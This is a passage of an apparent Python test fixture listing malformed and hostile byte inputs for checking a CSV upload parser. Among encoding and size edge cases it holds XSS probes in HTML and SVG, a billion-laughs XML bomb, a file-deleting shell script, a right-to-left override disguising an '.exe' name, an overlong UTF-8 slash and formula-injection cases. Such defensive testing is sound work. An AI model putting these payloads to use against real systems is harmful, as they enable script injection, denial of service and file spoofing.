    "UTF-16 with a mark": lambda: CYRILLIC.encode("utf-16"),
    "UTF-16 the other way round": lambda: b"\xfe\xff" + CYRILLIC.encode("utf-16-be"),
    "half a letter of UTF-16": lambda: CYRILLIC.encode("utf-16")[:-1],
    "a lone surrogate in UTF-16": lambda: b"\xff\xfea\0\0\xd8b\0",
    "UTF-32": lambda: CYRILLIC.encode("utf-32"),
    "UTF-7": lambda: b"+BBA-;x\r\n",
    "windows-1251": lambda: CYRILLIC.replace("ө", "о").encode("cp1251"),
    "a byte that windows-1251 lacks": lambda: b"\x98\xcf\xf0\xe8;x\r\n",
    "broken UTF-8": lambda: CYRILLIC.encode() + b"\xd0",
    "UTF-8 cut in a letter": lambda: CYRILLIC.encode() + "Ж".encode()[:1] + b";7\r\n",
    "an overlong slash": lambda: CYRILLIC.encode() + b"\xc0\xaf;1\r\n",
    "a surrogate in UTF-8": lambda: CYRILLIC.encode() + b"\xed\xa0\x80;1\r\n",
    "all kinds of line ends": lambda: b"a;1\r\nb;2\nc;3\rd;4",
    "line ends of old Macs": lambda: b"a;1\rb;2\rc;3\r",
    "a line end in a quote": lambda: b'a;"x\r\ny"\r\nb;2\r\n',
    "other line ends of Unicode": "a\u2028b\x85c\x0bd\x0ce;2".encode,
    "an open quote": lambda: b'a;1\r\nb;"2\r\nc;3\r\nd;4\r\n',
    "an open quote of 9 MB": lambda: b'a;"' + b"b;2\r\n" * (9 * MEGABYTE // 5),
    "a quote that goes on": lambda: b'"a"b;c\r\n',
    "quotes in quotes": lambda: b'"a ""b"" c";"""";""\r\n',
    "9 MB of quotes": lambda: b'"' * (9 * MEGABYTE),
    "a line of 9 MB": lambda: b"x" * (9 * MEGABYTE),
    "a cell of 40 000 letters": lambda: "ы".encode() * 40_000,
    "more than 10 MB": lambda: b"x;y\r\n" * (2 * MEGABYTE + 200_000),
    "10 000 columns": lambda: b";".join([b"x"] * 10_000),
    "9 million empty columns": lambda: b";" * (9 * MEGABYTE),
    "1 000 000 empty lines": lambda: b"\r\n" * 1_000_000 + b"x;y",
    "1 000 000 empty lines only": lambda: b"\n" * 1_000_000,
    "2 000 000 rows": lambda: b"x;y\n" * 2_000_000,
    "only spaces": lambda: b" \t \r\n \xc2\xa0 \r\n",
    "only a mark": lambda: b"\xef\xbb\xbf",
    "only a mark of UTF-16": lambda: b"\xff\xfe",
    "nothing": lambda: b"",
    "a mark in the middle": lambda: "a;\ufeffb\r\n\ufeff=1;2".encode("utf-8-sig"),
    "two marks": lambda: b"\xef\xbb\xbf\xef\xbb\xbfa;b",
    "control characters": lambda: b"a\x01\x07b;\x1b[31mred\x7f\r\n\x08;x",
    "letters that turn the line": "\u202efdp.exe;\u2066x\u2069".encode,
    "no letters U+FFFE": "a\ufffe\uffffb;c".encode,
    "formulas": lambda: "\r\n".join(
        '"{}"'.format(text.replace('"', '""')) for text in RUN_AT_OPENING
    ).encode(),
    "commas in a quoted heading": lambda: b'"a,b,c,d";x\r\n1;2\r\n',
    "an empty line first": lambda: b"\r\n\r\na,b\r\n1,2\r\n",
    "every delimiter": lambda: b"a;b,c\td|e\r\n1;2,3\t4|5\r\n",
    "no delimiter": lambda: b"a\r\nb\r\n",
    "a list that says its delimiter": lambda: b"sep=,\r\na,b\r\n",
    "numbers of nonsense": lambda: b"NaN;Infinity;1e999;-0;0x10;1_000\r\n",
    "HTML": lambda: b"<html><script>alert(1)</script></html>",
    "SVG": lambda: b"<svg onload='alert(1)' xmlns='http://www.w3.org/2000/svg'/>",
    "billion laughs": f"{HEAD}{LAUGHS}<x>&j;</x>".encode,
    "RTF": lambda: b"{\\rtf1\\ansi text}",
    "a script": lambda: b"#!/bin/sh\nrm -rf /tmp/x\n",
    "PDF": lambda: b"%PDF-1.7\n1 0 obj\n",
    "PNG": lambda: PNG,
    "JPEG": lambda: b"\xff\xd8\xff\xe0\0\x10JFIF\0",
    "GIF": lambda: b"GIF89a\1\0\1\0\0\0\0;",
    "a Windows program": lambda: b"MZ\x90\0\3\0\0\0\4\0\0\0\xff\xff" + noise(500),
    "a Linux program": lambda: b"\x7fELF\2\1\1\0" + noise(500),
    "GZIP": lambda: b"\x1f\x8b\x08\0" + noise(500),
    "RAR": lambda: b"Rar!\x1a\x07\0" + noise(500),
    "SQLite": lambda: b"SQLite format 3\0" + noise(500),
    "random bytes": lambda: noise(100_000),
    "a zip without a book": lambda: pack({"a.csv": b"a;b"}),
}  # fmt: skip
